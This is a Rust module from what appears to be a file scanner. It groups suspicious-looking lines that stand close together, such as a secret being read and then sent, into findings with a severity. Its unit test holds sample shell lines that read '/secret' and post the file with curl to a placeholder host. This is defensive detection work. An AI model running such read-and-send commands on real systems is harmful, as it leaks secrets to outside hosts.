//! Tells what a file does from several lines that say little alone.
//!
//! A backup script reads keys, a monitor posts to a server, a partitioner writes to a disk. What several such lines do
//! together in one file, or close together in a large one, is what a detector judges.

use regex::bytes::{RegexSet, RegexSetBuilder};

use super::text;
use crate::detectors::{Match, Sample};
use model::{FileKind, Severity, Weight};

/// Longest part of a line that is looked at, to either side of a literal.
const LINE_BYTES_MAX: usize = 1024;
/// Most lines looked at in one file.
const LINES_MAX: usize = 2048;
/// Most lines that a backslash may join.
const JOINED_LINES_MAX: usize = 12;
/// Larger files are bundles of many things: only what stands close together is joined.
const WHOLE_BYTES_MAX: usize = 256 << 10;
/// Memory for the states of one set and thread: with less they are thrown away faster than they are used.
const DFA_BYTES_MAX: usize = 2 << 20;
/// How close in those.
const NEAR_BYTES: usize = 4 << 10;

/// What is looked for: a role that the detector counts, words for people, a pattern for one line (`(?-u)`).
pub(crate) type Clue<R> = (R, &'static str, &'static str);

/// Clues, ready to be looked for.
pub(crate) struct Clues<R: 'static> {
    set: RegexSet,
    rows: &'static [Clue<R>],
}

/// One clue that was found.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Seen<R> {
    /// What it counts as.
    pub(crate) role: R,
    /// In words.
    pub(crate) what: &'static str,
    /// Where its line begins.
    pub(crate) offset: usize,
}

/// Clues that stand together, by offset. Never empty.
pub(crate) struct Group<R>(pub(crate) Vec<Seen<R>>);

impl<R: Copy + Eq> Clues<R> {
    /// # Panics
    ///
    /// If a pattern is wrong: they are constants, and a test runs them.
    pub(crate) fn new(rows: &'static [Clue<R>]) -> Self {
        let patterns = rows.iter().map(|(_, _, pattern)| pattern);
        let set =
            RegexSetBuilder::new(patterns).unicode(false).size_limit(32 << 20).dfa_size_limit(DFA_BYTES_MAX).build();
        Self { set: set.expect("the patterns are constants, and a test runs them"), rows }
    }

    /// What the lines around the sample's hits hold, in groups of what belongs together. What people read (comments,
    /// documents, lines of rule files) is left out.
    pub(crate) fn groups(&self, sample: &Sample<'_>) -> Vec<Group<R>> {
        let near = if sample.bytes.len() <= WHOLE_BYTES_MAX { WHOLE_BYTES_MAX } else { NEAR_BYTES };
        let mut groups: Vec<Group<R>> = Vec::new();
        let mut last = None;
        for seen in self.seen(sample) {
            match groups.last_mut() {
                Some(group) if last.is_some_and(|last: usize| seen.offset.saturating_sub(last) <= near) => {
                    group.0.push(seen);
                }
                _ => groups.push(Group(vec![seen])),
            }
            last = Some(seen.offset);
        }
        groups
    }

    fn seen(&self, sample: &Sample<'_>) -> Vec<Seen<R>> {
        let mut found: Vec<Seen<R>> = Vec::new();
        let mut looked_until = 0;
        let mut lines = 0;
        for hit in sample.hits {
            if hit.offset < looked_until {
                continue;
            }
            lines += 1;
            if lines > LINES_MAX {
                break;
            }
            // A literal that begins with a line's end belongs to the line behind it.
            let at = hit.offset + usize::from(sample.bytes.get(hit.offset) == Some(&b'\n'));
            let (start, line) = command(sample, at);
            looked_until = start + line.len();
            let matches = self.set.matches(line);
            if !matches.matched_any() || text::is_quoted(sample, at) {
                continue;
            }
            for row in &matches {
                let Some(&(role, what, _)) = self.rows.get(row) else { continue };
                // The same words again say nothing new, unless far away.
                if !found.iter().any(|seen| seen.what == what && start.saturating_sub(seen.offset) <= NEAR_BYTES) {
                    found.push(Seen { role, what, offset: start });
                }
            }
        }
        found
    }
}

impl<R: Copy + Eq> Group<R> {
    /// Whether something of this role is there.
    pub(crate) fn has(&self, role: R) -> bool {
        self.0.iter().any(|seen| seen.role == role)
    }

    /// How many different things of this role are there.
    pub(crate) fn count(&self, role: R) -> usize {
        let mut words: Vec<_> = self.0.iter().filter(|seen| seen.role == role).map(|seen| seen.what).collect();
        words.sort_unstable();
        words.dedup();
        words.len()
    }

    /// A match that tells all its clues once, in order of the file.
    pub(crate) fn found(&self, weight: Weight) -> Match {
        let mut words: Vec<&str> = Vec::new();
        for seen in &self.0 {
            if !words.contains(&seen.what) {
                words.push(seen.what);
            }
        }
        let mut found = Match::new(words.join("; "), self.0.first().map(|seen| seen.offset));
        found.weight = Some(weight);
        found.severity = match weight {
            Weight::Proof => None,
            Weight::Sign => Some(Severity::Medium),
            Weight::Fact => Some(Severity::Info),
        };
        found
    }
}

/// The line at `offset`, with the lines that backslashes join to it; and where it begins. Of a program the text between
/// two NULs.
fn command<'a>(sample: &Sample<'a>, offset: usize) -> (usize, &'a [u8]) {
    let (mut start, line) = sample.line(offset, LINE_BYTES_MAX);
    if matches!(sample.kind, FileKind::Elf | FileKind::Binary) {
        let (left, right) = line.split_at(offset.saturating_sub(start).min(line.len()));
        let begins = left.iter().rposition(|&byte| byte == 0).map_or(0, |nul| nul + 1);
        let ends = left.len() + right.iter().position(|&byte| byte == 0).unwrap_or(right.len());
        return (start + begins, line.get(begins..ends).unwrap_or_default());
    }
    let mut end = start + line.len();
    let goes_on = |end: usize| sample.bytes.get(end.saturating_sub(1)..end) == Some(b"\\") && end < sample.bytes.len();
    for _ in 0..JOINED_LINES_MAX {
        if !goes_on(end) {
            break;
        }
        let (next, line) = sample.line(end + 1, LINE_BYTES_MAX);
        end = (next + line.len()).max(end + 1).min(sample.bytes.len());
    }
    for _ in 0..JOINED_LINES_MAX {
        let Some(before) = start.checked_sub(2) else { break };
        if sample.bytes.get(before..start) != Some(b"\\\n") {
            break;
        }
        start = sample.line(before, LINE_BYTES_MAX).0;
    }
    (start, sample.bytes.get(start..end).unwrap_or_default())
}

/// Whether a shell or an interpreter reads the file as it is, rather than a person or another program.
pub(crate) fn is_script(sample: &Sample<'_>) -> bool {
    sample.kind == FileKind::Script || text::language(sample.bytes) != text::Language::None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detectors::Hit;

    static CLUES: &[Clue<u8>] = &[(1, "reads", r"cat /secret"), (2, "sends", r"(?s)curl .*-d @x")];

    fn groups(text: &str) -> Vec<Vec<&'static str>> {
        let mut hits: Vec<Hit> = text
            .match_indices("cat ")
            .chain(text.match_indices("curl "))
            .map(|(offset, _)| Hit { offset, literal: 0 })
            .collect();
        hits.sort_unstable();
        let sample = Sample { bytes: text.as_bytes(), kind: FileKind::Script, hits: &hits, place: None };
        let groups = Clues::new(CLUES).groups(&sample);
        groups.iter().map(|group| group.0.iter().map(|seen| seen.what).collect()).collect()
    }

    #[test]
    fn lines_of_one_script_are_joined_and_of_a_bundle_only_if_close() {
        assert_eq!(groups("#!/bin/sh\ncat /secret > x\ncurl http://h \\\n  -d @x\n"), [["reads", "sends"]]);
        assert_eq!(groups("#!/bin/sh\n# cat /secret\ncurl http://h -d @x\n"), [["sends"]]);
        let far = format!("#!/bin/sh\ncat /secret\n{}\ncurl h -d @x\n", "echo\n".repeat(100_000));
        assert_eq!(groups(&far), [["reads"], ["sends"]]);
    }
}
